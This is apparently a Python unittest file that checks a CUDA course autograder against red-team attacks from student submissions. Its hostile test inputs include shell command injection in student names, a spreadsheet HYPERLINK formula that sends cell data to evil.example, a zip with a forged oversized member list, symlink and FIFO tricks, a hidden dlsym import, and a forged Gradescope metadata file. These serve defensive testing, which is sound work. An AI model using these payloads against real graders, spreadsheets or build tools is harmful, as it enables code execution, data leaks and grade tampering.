"""Submissions that attack the grader, or trip it by accident: the red team's findings (F0-F15),
each a promise the grader keeps. The first class needs the real nvcc (no GPU); the rest run
on the stand-in kit."""
import csv
import json
import os
import shutil
import struct
import subprocess
import sys
import time
import unittest
import zipfile

from helpers import GRADER, IN_COURSE, WANTED, GraderTestCase, make_zip
from memlab_grader import layouts
from memlab_grader.layouts import find, read_source

NVCC = shutil.which("nvcc") or "/usr/local/cuda/bin/nvcc"


def gradescope_metadata(submissions):
    """submission_metadata.yml for {folder: [(name, sid, email), ...]}."""
    lines = []
    for folder, people in submissions.items():
        lines.append(f"{folder}:\n  :submitters:\n")
        for name, sid, email in people:
            lines.append(f"  - :name: {json.dumps(name)}\n    :sid: '{sid}'\n    :email: {email}\n")
    return "".join(lines)


class HostileTestCase(GraderTestCase):
    def find(self):
        return find(self.submissions, WANTED, IN_COURSE)

    def rows(self):
        return {s.student: s for s in self.find().submissions}

    def csv_rows(self, *path):
        with open(os.path.join(self.out, *path), encoding="utf-8") as handle:
            return list(csv.reader(handle))

    def gradescope(self, people_by_folder, sources):
        self.write(os.path.join(self.submissions, "submission_metadata.yml"), gradescope_metadata(people_by_folder))
        for folder, text in sources.items():
            self.write(os.path.join(self.submissions, folder, WANTED), text)

    def clones(self, *users, prefix="lab1-"):
        for user in users:
            clone = os.path.join(self.submissions, f"{prefix}{user}")
            self.write(os.path.join(clone, ".git", "HEAD"), "")
            self.write(os.path.join(clone, IN_COURSE), "x\n")


@unittest.skipUnless(os.path.exists(NVCC), "needs nvcc")
class F0_NamesNeverReachTheCompiler(HostileTestCase):
    """nvcc runs its sub-tools through /bin/sh with paths in double quotes, and writes a
    make-style dependency file: a student's name in a path it is given would run as a
    command (F0) or split the file (F0b). Every path given to a tool is opaque."""

    def setUp(self):
        super().setUp()
        with open(self.kit) as handle:
            kit = json.load(handle)
        # The stand-in kit compiled by the real nvcc, as the lab's shared library (no table objects).
        kit.update(compiler=NVCC, compile_flags=["-shared", "-cudart=shared", "-Xcompiler", "-fPIC"], table_objects=[],
                   architectures="")
        with open(self.kit, "w") as handle:
            json.dump(kit, handle)
        # The kit compiles its reference source as students' files are (Kit.reference_as_student): real code, then.
        self.write(kit["reference_source"], 'extern "C" int f() { return 0; }\n')

    def named(self, name):
        self.gradescope({"submission_1": [(name, "1", "eve@x.edu")], "submission_2": [("Ada", "2", "ada@x.edu")]},
                        {s: 'extern "C" int f() { return 1; }\n' for s in ("submission_1", "submission_2")})

    def test_a_command_in_a_gradescope_name_never_runs(self):
        self.named("Eve $(cd ..;cd ..;cd ..;cd ..;touch PWNED) `touch PWNED2`")
        finished = self.grade(env={"FAKE_NO_GPU": "1"})
        self.assertFalse(os.path.exists(os.path.join(self.root, "PWNED")), finished.stdout[-1500:])
        self.assertFalse(any("PWNED" in name for _, _, files in os.walk(self.root) for name in files))

    def test_an_honest_name_with_a_dollar_or_a_backtick_compiles(self):
        self.named("Ke$ha `Sebert")
        self.grade(env={"FAKE_NO_GPU": "1"})
        self.assertEqual(self.gradebook()["Ke$ha `Sebert"]["status"], "not run: no GPU")

    def test_a_function_renamed_by_an_asm_label_is_found_among_the_imports(self):
        # Red team 16: the text names look_up; the library imports dlsym.
        self.gradescope({"submission_1": [("Eve", "1", "eve@x.edu")]},
                        {"submission_1": 'extern "C" void* look_up(void*, const char*) __asm__("dl" "sym");\n'
                                         'extern "C" int f() { return look_up(nullptr, "f") != nullptr; }\n'})
        self.grade(env={"FAKE_NO_GPU": "1"})
        row = self.gradebook()["Eve"]
        self.assertEqual(row["status"], "forbidden API", row["detail"])
        self.assertIn("dlsym", row["detail"])
        self.assertIn("read in the compiled file", row["detail"])

    def test_a_colon_and_a_space_in_a_name_do_not_split_the_dependency_file(self):
        self.named("Dr: Who")
        self.grade(env={"FAKE_NO_GPU": "1"})
        row = self.gradebook()["Dr: Who"]
        self.assertEqual(row["status"], "not run: no GPU", row["detail"])


class F0_StagesAndFoldersAreOpaque(HostileTestCase):
    def test_no_path_under_out_holds_a_students_name(self):
        self.gradescope({"submission_1": [("Eve $(touch x) / ..", "1", "e@x.edu")],
                         "submission_2": [("Ada Lovelace", "2", "a@x.edu")]},
                        {"submission_1": "all fine\n", "submission_2": "all fine\n"})
        self.assertEqual(self.grade().returncode, 0)
        paths = [os.path.relpath(os.path.join(folder, name), self.out)
                 for folder, folders, files in os.walk(self.out) for name in folders + files]
        self.assertFalse([p for p in paths if "Eve" in p or "Ada" in p], paths)
        self.assertEqual(set(self.gradebook()), {"Eve $(touch x) _ ..", "Ada Lovelace"})

    def test_a_name_with_spaces_is_graded_under_the_stand_in_compiler(self):
        # F15: the stand-in nvcc escapes the dependency file as nvcc does, so these tests see names as nvcc does.
        self.gradescope({"submission_1": [("Bob Smith", "1", "b@x.edu")], "submission_2": [("Ada", "2", "a@x.edu")]},
                        {"submission_1": "all fine\n", "submission_2": "all fine\n"})
        self.grade()
        self.assertEqual(self.gradebook()["Bob Smith"]["status"], "graded")


class F1_LongNamesAreGraded(HostileTestCase):
    """A Gradescope group of five long names makes a row name over 255 bytes: it is graded, in
    a folder of its own, and the run writes its gradebook."""

    def test_a_long_group_name(self):
        people = [(f"Maximiliana Alexandra Katharina Hohenzollern-Sigmaringen {i}", f"10{i}", f"s{i}@x.edu")
                  for i in range(5)]
        self.gradescope({"submission_1": people, "submission_2": [("Ada", "1", "ada@x.edu")]},
                        {"submission_1": "all fine\n", "submission_2": "all fine\n"})
        finished = self.grade()
        self.assertEqual(finished.returncode, 0, finished.stderr[-2000:])
        group = " & ".join(name for name, _, _ in people)
        self.assertEqual(self.gradebook()[group]["status"], "graded")

    def test_every_row_folder_is_short_and_plain(self):
        for key in ("a" * 255, "x/../y", ".hidden", "-rf", "Eve $(id)", os.fsdecode(b"caf\xe9"), "caf\u00e9"):
            folder = layouts.row_folder(key)
            self.assertLessEqual(len(folder.encode("utf-8")), 64, folder)
            self.assertRegex(folder, r"^[^\W_][\w .()-]*$", key)
        self.assertNotEqual(layouts.row_folder("a" * 255), layouts.row_folder("a" * 254))


class F6_ResumeKeepsEachOutcomeWithItsSubmission(HostileTestCase):
    """Rows of one name are numbered by order ('Bob', 'Bob (2)'); a submission added between
    runs shifts the numbers, and --resume still keeps each outcome with its own submission."""

    def test_resume_after_a_late_submission(self):
        people = {"submission_20": [("Bob", "", "bob.a@x.edu")], "submission_30": [("Bob", "", "bob.b@x.edu")]}
        self.gradescope(people, {"submission_20": "all fine\n", "submission_30": "FAKE_COMPILE_ERROR\n"})
        self.grade(env={"FAKE_NO_GPU": "1"})
        self.gradescope(dict({"submission_10": [("Bob", "", "bob.c@x.edu")]}, **people),
                        {"submission_10": "FAKE_PASS_STEPS=1\n"})
        finished = self.grade("--resume")
        lines = self.csv_rows("export", "gradescope.csv")[1:]
        self.assertEqual(sorted(line[2] for line in lines), ["bob.a@x.edu", "bob.b@x.edu", "bob.c@x.edu"],
                         finished.stdout)
        book = self.csv_rows("gradebook.csv")[1:]  # in the exports' order, one student a row
        status = {line[2]: row[2] for line, row in zip(lines, book)}
        self.assertEqual(status, {"bob.c@x.edu": "graded", "bob.a@x.edu": "graded", "bob.b@x.edu": "compile error"})


class F2_LinksAndSpecialFilesInAStudentsFolder(HostileTestCase):
    """No file in a student's folder (a .cu or a zip) that is a symbolic link out of it is
    opened, and nothing that is not a regular file: a clone may commit either."""

    def test_a_zip_linked_to_another_students_zip_is_refused(self):
        make_zip(os.path.join(self.submissions, "bob.zip"), [(WANTED, "bob's work\n")])
        make_zip(os.path.join(self.submissions, "carol.zip"), [(WANTED, "carol's work\n")])
        os.makedirs(os.path.join(self.submissions, "mallory"))
        os.symlink("../bob.zip", os.path.join(self.submissions, "mallory", "mywork.zip"))
        mallory = self.rows()["mallory"]
        self.assertIsNone(mallory.source, mallory.note)
        self.assertIn("symbolic link out of the student's files", mallory.problem[1])

    def test_a_zip_linked_to_a_fifo_is_never_opened(self):
        # /dev/tty or /dev/stdin behave as a FIFO does: opening and reading them blocks.
        fifo = os.path.join(self.root, "fifo")
        os.mkfifo(fifo)
        self.clones("alice", "bob")
        os.symlink(fifo, os.path.join(self.submissions, "lab1-bob", "data.zip"))
        os.mkfifo(os.path.join(self.submissions, "lab1-alice", "inside.zip"))  # a FIFO in the folder itself
        code = (f"import sys; sys.path.insert(0, {GRADER!r}); from memlab_grader.layouts import find; "
                f"print(sorted(s.source is not None for s in find({self.submissions!r}, {WANTED!r}, "
                f"{IN_COURSE!r}).submissions))")
        try:
            done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=20)
        except subprocess.TimeoutExpired:
            self.fail("find() blocked on a FIFO in a student's folder")
        self.assertEqual(done.stdout.strip(), "[True, True]", done.stderr)
        rows = self.rows()
        self.assertIn("not a regular file", rows["alice"].note)
        self.assertIn("symbolic link out of the student's files", rows["bob"].note)

    def test_a_link_inside_the_students_own_folder_is_followed(self):
        self.submit("ada", "all fine")
        folder = os.path.join(self.submissions, "bob")
        self.write(os.path.join(folder, "work", WANTED), "bob's\n")
        os.symlink(os.path.join("work", WANTED), os.path.join(folder, WANTED))
        self.assertEqual(read_source(self.rows()["bob"]), b"bob's\n")


class F3_NoCellRunsAsAFormula(HostileTestCase):
    """A Gradescope name, or the name of a file in the student's folder (which starts a note),
    never starts a cell a spreadsheet runs, in the gradebook or the exports."""

    EVIL = '=HYPERLINK(CONCATENATE("http",CHAR(58),"//evil.example/?",A2),"open")'

    def cells(self):
        return [cell for path in (("gradebook.csv",), ("export", "canvas.csv"), ("export", "canvas-by-check.csv"),
                                  ("export", "gradescope.csv")) for row in self.csv_rows(*path) for cell in row]

    def test_a_gradescope_name(self):
        self.gradescope({"submission_1": [(self.EVIL, "1", "@m@x.edu")], "submission_2": [("Ada", "2", "ada@x.edu")]},
                        {"submission_1": "all fine\n", "submission_2": "all fine\n"})
        self.grade()
        cells = self.cells()
        self.assertEqual([c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], [])
        self.assertTrue(any(c.startswith("'=HYPERLINK(") for c in cells), cells)  # shown as text
        self.assertIn("100", cells)  # scores stay numbers

    def test_a_file_name_that_starts_the_note(self):
        folder = os.path.join(self.submissions, "mallory")
        self.write(os.path.join(folder, WANTED), "all fine\n")
        self.write(os.path.join(folder, "=1+2*CHAR(65)&HYPERLINK(A1).zip"), "not a zip")
        self.submit("ada", "all fine")
        self.grade()
        self.assertEqual([c for c in self.cells() if c[:1] in ("=", "+", "-", "@", "\t", "\r")], [])

    def test_the_rule(self):
        from memlab_grader.exports import spreadsheet_cell
        for text in ("=1", "+1+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"):
            self.assertEqual(spreadsheet_cell(text), "'" + text)
        for text in ("Ada", "12.5", "0", "", "a=b"):
            self.assertEqual(spreadsheet_cell(text), text)


class F4_TheCoursePathIsLookedAtFirst(HostileTestCase):
    """A clone with a committed build/ of more files than the cap, sorted before labs/, still
    has its file at the course path graded: the cap bounds only the search for near names."""

    def test_many_files_before_labs(self):
        self.clones("alice", "bob")
        saved = layouts.MAX_FILES_LOOKED_AT
        layouts.MAX_FILES_LOOKED_AT = 50
        try:
            for number in range(60):
                self.write(os.path.join(self.submissions, "lab1-alice", "build", f"{number}.o"), "")
            alice = self.rows()["alice"]
        finally:
            layouts.MAX_FILES_LOOKED_AT = saved
        self.assertEqual(read_source(alice), b"x\n", alice.problem)
        self.assertIn("more than 50 files", alice.note)


class F5_AnAmbiguousFileIsNotAGrade(HostileTestCase):
    """An ambiguous file is the instructor's to resolve: the row is not final, exports empty
    (never a zero over the student's grade), and the exit code says so; once the instructor
    renames the file, --resume grades it."""

    def test_ambiguous_exports_empty_and_resume_grades_it(self):
        self.write(os.path.join(self.submissions, "ada_1_11_Vector_Add.cu"), "all fine\n")
        self.write(os.path.join(self.submissions, "ada_1_12_vector_add (1).cu"), "all fine\n")
        self.write(os.path.join(self.submissions, "bob_2_21_vector_add.cu"), "all fine\n")
        finished = self.grade()
        self.assertEqual(finished.returncode, 1, finished.stderr)
        self.assertIn("rename the one to grade", finished.stderr)
        self.assertEqual(self.gradebook()["ada"]["status"], "ambiguous file")
        self.assertEqual(self.gradebook()["ada"]["total"], "")
        canvas = {line[0]: line for line in self.csv_rows("export", "canvas.csv")[1:]}
        self.assertEqual((canvas["ada"][5], canvas["bob"][5]), ("", "100"))
        os.remove(os.path.join(self.submissions, "ada_1_12_vector_add (1).cu"))
        finished = self.grade("--resume")
        self.assertEqual(finished.returncode, 0, finished.stderr)
        self.assertEqual(self.gradebook()["ada"]["status"], "graded")

    def test_an_unreadable_file_is_final_with_its_reason(self):
        self.write(os.path.join(self.submissions, "bob.zip"), "not a zip")
        self.submit("ada", "all fine")
        self.assertEqual(self.grade().returncode, 0)
        bob = self.gradebook()["bob"]
        self.assertEqual((bob["status"], bob["total"]), ("unreadable file", "0"))
        self.assertIn("not a zip that can be read", bob["detail"])


class F7_TheCoursePathBeatsAStrayTopCopy(HostileTestCase):
    def test_course_path_wins(self):
        self.clones("alice", "bob")
        self.write(os.path.join(self.submissions, "lab1-alice", IN_COURSE), "real work\n")
        self.write(os.path.join(self.submissions, "lab1-alice", WANTED), "old scratch copy\n")
        alice = self.rows()["alice"]
        self.assertEqual(read_source(alice), b"real work\n")
        self.assertEqual(alice.note, f"also found {WANTED} (not graded)")


class F8_OnlyTheExportItselfIsGradescopes(HostileTestCase):
    """A student's folder (a clone) holding a submission_metadata.yml of their own is never
    taken for Gradescope's export: the student would name every row and give it an id."""

    def test_one_clone_with_metadata(self):
        clone = os.path.join(self.submissions, "lab1-mallory")
        self.write(os.path.join(clone, ".git", "HEAD"), "")
        self.write(os.path.join(clone, IN_COURSE), "x\n")
        self.write(os.path.join(clone, "submission_metadata.yml"),
                   gradescope_metadata({"submission_9": [("Victim Student", "424242", "victim@x.edu")]}))
        os.makedirs(os.path.join(clone, "submission_9"))
        found = self.find()
        self.assertNotIn("Gradescope", found.layout)
        self.assertEqual([(s.student, s.student_id) for s in found.submissions], [("lab1-mallory", "")])

    def test_metadata_without_submission_folders_is_not_an_export(self):
        self.write(os.path.join(self.submissions, "submission_metadata.yml"), "")
        self.submit("ada", "x")
        self.submit("bob", "x")
        self.assertEqual(self.find().layout, "one folder per student")


class F9_AZipsListOfMembersIsBoundedBeforeItIsRead(HostileTestCase):
    """Central-directory records pointing at one file: refused from the list's size, or by
    counting records to the cap, before zipfile parses them all."""

    def records(self, count):
        name = b"a"
        local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
        entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0,
                            0) + name
        directory = entry * count
        end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(directory), len(local), 0)
        with open(os.path.join(self.submissions, "mallory.zip"), "wb") as handle:
            handle.write(local + directory + end)
        make_zip(os.path.join(self.submissions, "ada.zip"), [(WANTED, "x\n")])

    def test_a_large_list_is_refused_unread(self):
        self.records(200_000)
        start = time.monotonic()
        mallory = self.rows()["mallory"]
        self.assertLess(time.monotonic() - start, 2)
        self.assertIn("refused unread", mallory.problem[1])

    def test_records_are_counted_to_the_cap_only(self):
        self.records(25_000)  # under the size cap: counted, and refused at 20001
        mallory = self.rows()["mallory"]
        self.assertIn("more than the 20000 members", mallory.problem[1])


class F10_AFolderAndItsZipAreOneStudent(HostileTestCase):
    def test_folder_and_zip(self):
        for student in ("alice", "bob"):
            self.submit(student, "all fine")
            make_zip(os.path.join(self.submissions, f"{student}.zip"), [(f"{student}/{WANTED}", "all fine\n")])
        found = self.find()
        self.assertEqual([s.student for s in found.submissions], ["alice", "bob"])
        self.assertIn("the same file is also alice.zip", found.submissions[0].note)
        self.assertTrue(any("alice/ and alice.zip" in w for w in found.warnings), found.warnings)

    def test_different_files_in_the_folder_and_its_zip_are_ambiguous(self):
        self.submit("alice", "one")
        make_zip(os.path.join(self.submissions, "alice.zip"), [(WANTED, "another\n")])
        self.submit("bob", "x")
        self.assertEqual(self.rows()["alice"].problem[0], "ambiguous file")


class F11_TwoZipMembersOfOneNameAreAmbiguous(HostileTestCase):
    def test_duplicate_names(self):
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns of the duplicate it writes
            make_zip(os.path.join(self.submissions, "mallory.zip"), [(WANTED, "first\n"), (WANTED, "second\n")])
        make_zip(os.path.join(self.submissions, "ada.zip"), [(WANTED, "x\n")])
        mallory = self.rows()["mallory"]
        self.assertEqual(mallory.problem[0], "ambiguous file")
        self.assertIn("two members of one name", mallory.problem[1])


class F12_TheAssignmentsPrefixIsStrippedOnlyWhenSure(HostileTestCase):
    def test_the_labs_own_name_is_the_prefix(self):
        self.clones("cs101-alice", "cs101-bob")  # lab1-cs101-alice: the lab's name, then the user name
        self.assertEqual(sorted(s.student_id for s in self.find().submissions), ["cs101-alice", "cs101-bob"])

    def test_an_unknown_prefix_with_two_hyphens_is_kept(self):
        self.clones("cs101-alice", "cs101-bob", prefix="hw-")
        found = self.find()
        self.assertEqual(sorted((s.student, s.student_id) for s in found.submissions),
                         [("hw-cs101-alice", "hw-cs101-alice"), ("hw-cs101-bob", "hw-cs101-bob")])
        self.assertTrue(any("'hw-cs101-'" in w for w in found.warnings), found.warnings)

    def test_a_prefix_with_one_hyphen_is_stripped(self):
        self.clones("alice", "bob", prefix="hw-")
        self.assertEqual(sorted(s.student_id for s in self.find().submissions), ["alice", "bob"])


class F13_OneStudentInTwoGradescopeSubmissionsIsNamed(HostileTestCase):
    def test_same_sid_twice(self):
        self.gradescope({"submission_1": [("Ada", "1", "ada@x.edu"), ("Bob", "2", "bob@x.edu")],
                         "submission_2": [("Bob", "2", "bob@x.edu")]},
                        {"submission_1": "x\n", "submission_2": "x\n"})
        warnings = self.find().warnings
        self.assertTrue(any(w.startswith("2 is a submitter of 2 submissions") for w in warnings), warnings)


class F14_RubysYamlAnchorsAreRead(HostileTestCase):
    def test_anchor(self):
        self.write(os.path.join(self.submissions, "submission_metadata.yml"),
                   "submission_1:\n  :submitters: &1\n  - :name: Ada\n    :sid: '1'\n    :email: ada@x.edu\n"
                   "  :history:\n  - :submitters: *1\n")
        self.write(os.path.join(self.submissions, "submission_1", WANTED), "x\n")
        self.write(os.path.join(self.submissions, "submission_2", WANTED), "x\n")
        self.assertEqual(self.rows()["Ada"].student_id, "1")


if __name__ == "__main__":
    unittest.main()


class RowFoldersNeverShared(GraderTestCase):
    """Red team 10, F8: `ab` and `AB` are hashed apart, and a third key named like one of
    those hashes must not land in the same folder (nor, so, the same stage and build)."""

    def test_three_keys_three_folders_and_their_own_scores(self):
        twin = layouts.row_folder("ab/")
        self.submit("ab", "FAKE_PASS_STEPS=0 (fails everything)")
        self.submit("AB", "all fine")
        self.submit(twin, "all fine")
        self.assertEqual(self.grade("--jobs", "1").returncode, 0)
        found = layouts.find(self.submissions, "vector_add.cu", "labs/lab1_caching/vector_add.cu").submissions
        self.assertEqual(len({s.row_folder.casefold() for s in found}), 3)
        self.assertLess(float(self.gradebook()["ab"]["total"]), 100)

